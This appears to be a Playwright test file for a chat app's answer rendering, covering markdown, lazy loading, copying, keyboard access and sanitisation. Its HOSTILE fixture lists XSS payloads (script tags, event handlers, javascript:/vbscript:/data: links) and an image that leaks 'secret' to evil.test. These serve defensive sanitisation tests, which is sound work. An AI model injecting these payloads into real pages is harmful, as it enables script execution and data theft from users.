import { expect, type Locator, type Page } from "@playwright/test";
import { expectNoViolations } from "./support/axe.ts";
import {
  ask,
  askAndWait,
  composer,
  lastAnswer,
  receipt,
  stopButton,
  thread,
  watchGrow,
} from "./support/chat.ts";
import { look } from "./support/screens.ts";
import { test } from "./support/test.ts";

const RICH = `Here is **everything**:

| Word | Tokens |
| --- | ---: |
| ledger | 2 |

1. first
2. second

\`\`\`ts
const total: bigint = 1n;
\`\`\`

Then $e^{i\\pi} + 1 = 0$, and it costs $5 or $10.

![The plan](https://images.test/plan.png)

See [the source](https://example.com/source).`;

const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

/** Each tries to run code or to call home as soon as it is shown. */
const HOSTILE = `<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg>
<iframe src="https://evil.test/frame"></iframe>
<a href="javascript:window.pwned = 4">html link</a>

![pixel](https://evil.test/pixel.png?stolen=secret)
![inline](data:image/svg+xml,<svg onload=window.pwned=5>)

[script link](javascript:window.pwned=6) and [spaced](java\tscript:window.pwned=7)
and [entity](&#106;avascript:window.pwned=8) and [data](data:text/html,<script>window.pwned=9</script>)
and <javascript:window.pwned=10> and [vb](vbscript:window.pwned=11)

\`\`\`html
<script>window.pwned = 12</script>
\`\`\`

| <img src=x onerror=window.pwned=13> | <b onmouseover=window.pwned=14>hover</b> |
| --- | --- |
| [cell](javascript:window.pwned=15) | ok |

[reference]: javascript:window.pwned=16
[a reference][reference]

The end of it.`;

test("an answer's table, list, code and link are shown as such, while it streams and after", async ({
  page,
  model,
  signInNewcomer,
}) => {
  await signInNewcomer();
  await model.behave({ text: RICH });
  await page.goto("/chat");

  await askAndWait(page, "Show me everything");

  await expectRich(page);
  await page.reload();
  await expectRich(page);
  await expectNoViolations(page);
  await look(page, "rich-answer");
});

test("code, maths and what renders streams are loaded when they are met, and not before", {
  tag: "@desktop",
}, async ({ page, model, signInNewcomer }) => {
  const scripts: string[] = [];
  page.on("response", async (response) => {
    if (!/\.js(\?|$)/.test(response.url())) return;
    scripts.push(await response.text().catch(() => ""));
  });
  const isLoaded = (mark: RegExp) =>
    expect.poll(() => scripts.some((script) => mark.test(script)));
  await signInNewcomer();
  await model.behave({ text: "Plain words alone." });
  await page.goto("/chat");
  await askAndWait(page, "Say something");
  await isLoaded(/ParseError|KaTeX/).toBe(false);
  await isLoaded(/registerLanguage/).toBe(false);

  await model.behave({ text: RICH });
  await askAndWait(page, "Show me everything");

  await expectRich(page);
  await isLoaded(/KaTeX/).toBe(true);
});

test("an image of somewhere else is loaded on a click alone", {
  tag: "@desktop",
}, async ({ page, model, signInNewcomer }) => {
  const asked: string[] = [];
  await page.route("https://images.test/**", async (route) => {
    asked.push(route.request().headers().referer ?? "without a referer");
    await route.fulfill({ contentType: "image/png", body: PIXEL });
  });
  await signInNewcomer();
  await model.behave({ text: "![The plan](https://images.test/plan.png)" });
  await page.goto("/chat");
  await askAndWait(page, "Show me the plan");
  expect(asked).toEqual([]);

  await lastAnswer(page)
    .getByRole("button", { name: "The plan: load the image from images.test" })
    .click();

  await expect(
    lastAnswer(page).getByRole("img", { name: "The plan" }),
  ).toBeVisible();
  expect(asked).toEqual(["without a referer"]);
});

test("an answer and its code are copied as they were written", {
  tag: "@desktop",
}, async ({ page, context, model, signInNewcomer }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await signInNewcomer();
  await model.behave({ text: RICH });
  await page.goto("/chat");
  await askAndWait(page, "Show me everything");
  const clipboard = () => page.evaluate(() => navigator.clipboard.readText());

  await lastAnswer(page).getByRole("button", { name: "Copy answer" }).click();
  await expect.poll(clipboard).toBe(RICH);

  await lastAnswer(page).getByRole("button", { name: "Copy code" }).click();
  await expect.poll(clipboard).toBe("const total: bigint = 1n;");
});

test("what a model writes runs nothing and calls nobody", {
  tag: "@desktop",
}, async ({ page, model, signInNewcomer, testbed }) => {
  const strangers: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(testbed.appUrl)) {
      strangers.push(request.url());
    }
  });
  await signInNewcomer();
  await model.behave({ text: HOSTILE });
  await page.goto("/chat");

  await askAndWait(page, "Be hostile");
  await expectInert(page);
  await page.reload();
  await expectInert(page);

  expect(strangers).toEqual([]);
});

test("a question is shown as text, not as the HTML or markdown in it", {
  tag: "@desktop",
}, async ({ page, signInNewcomer }) => {
  const question = "<img src=x onerror='pwned=1'> **b**";
  await signInNewcomer();
  await page.goto("/chat");

  await askAndWait(page, question);

  await expect(thread(page).getByText(question)).toBeVisible();
  await page.reload();
  await expect(thread(page).getByText(question)).toBeVisible();
  expect(await pwned(page)).toBeUndefined();
  await expect(page).toHaveTitle(/<img src=x/);
});

test("everything can be done with the keyboard, and is said at start and end", {
  tag: "@desktop",
}, async ({ page, model, signInNewcomer }) => {
  await signInNewcomer();
  await model.behave({ outputTokens: 1_000, tokensPerSecond: 40 });
  await page.goto("/chat");
  await expect(composer(page)).toBeFocused();
  const said = page.getByRole("status").filter({ hasText: /^Answer/ });

  await page.keyboard.type("Tell me something long");
  await page.keyboard.press("Enter");

  await expect(said).toHaveText("Answering");
  await watchGrow(lastAnswer(page), 2);
  await tabTo(page, stopButton(page), "Tab");
  await expectVisibleFocus(page);
  await page.keyboard.press("Enter");
  await expect(lastAnswer(page)).toContainText("Stopped.");
  await expect(said).toHaveText("Answer stopped");

  const copy = lastAnswer(page).getByRole("button", { name: "Copy answer" });
  await tabTo(page, copy, "Shift+Tab");
  await expectVisibleFocus(page);
  const newChat = page.getByRole("link", { name: "New chat" }).first();
  await tabTo(page, newChat, "Shift+Tab");
  await expectVisibleFocus(page);
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(/\/chat$/);
});

test("Escape stops, and a whole answer is announced when it is complete", {
  tag: "@desktop",
}, async ({ page, model, signInNewcomer }) => {
  await signInNewcomer();
  await model.behave({ outputTokens: 1_000, tokensPerSecond: 40 });
  await page.goto("/chat");
  await ask(page, "Tell me something long");
  await watchGrow(lastAnswer(page), 2);

  await page.keyboard.press("Escape");

  await expect(lastAnswer(page)).toContainText("Stopped.");
  await model.reset();
  await ask(page, "And something short?");
  await expect(receipt(lastAnswer(page))).toBeVisible();
  await expect(
    page.getByRole("status").filter({ hasText: "Answer complete" }),
  ).toBeAttached();
});

async function expectRich(page: Page) {
  const answer = lastAnswer(page);
  await expect(answer.getByRole("cell", { name: "ledger" })).toBeVisible();
  await expect(answer.getByRole("listitem")).toHaveText(["first", "second"]);
  await expect(
    answer.getByRole("code").filter({ hasText: "const total: bigint = 1n;" }),
  ).toBeVisible();
  await expect(answer.getByRole("code").locator(".code-keyword")).toHaveText(
    "const",
  );
  await expect(answer.getByRole("math")).toHaveCount(1);
  await expect(answer).toContainText("it costs $5 or $10");
  await expect(answer.getByRole("strong")).toHaveText("everything");
  const link = answer.getByRole("link", { name: "the source" });
  await expect(link).toHaveAttribute("href", "https://example.com/source");
  await expect(link).toHaveAttribute("target", "_blank");
  await expect(link).toHaveAttribute("rel", /noopener/);
}

async function expectInert(page: Page) {
  await expect(lastAnswer(page)).toContainText("The end of it.");
  const harmful = lastAnswer(page).locator(
    "script, img, svg[onload], iframe, object, embed, form, [onerror], [onload], [onmouseover], [href^='javascript' i], [href^='data' i], [href^='vbscript' i]",
  );
  await expect(harmful).toHaveCount(0);
  await expect(lastAnswer(page).getByRole("link")).toHaveCount(0);
  expect(await pwned(page)).toBeUndefined();
}

const pwned = (page: Page) =>
  page.evaluate<unknown>(() => Reflect.get(window, "pwned"));

async function tabTo(page: Page, target: Locator, key: "Tab" | "Shift+Tab") {
  for (let step = 0; step < 30; step += 1) {
    if (await isFocused(target)) return;
    await page.keyboard.press(key);
  }
  await expect(target).toBeFocused();
}

const isFocused = (target: Locator) =>
  target.evaluate((element) => element === document.activeElement);

/** DESIGN.md: a ring of 2 px. */
async function expectVisibleFocus(page: Page) {
  const ring = await page.evaluate(() => {
    const { outlineStyle, outlineWidth } = getComputedStyle(
      document.activeElement ?? document.body,
    );
    return `${outlineStyle} ${outlineWidth}`;
  });
  expect(ring).toBe("solid 2px");
}
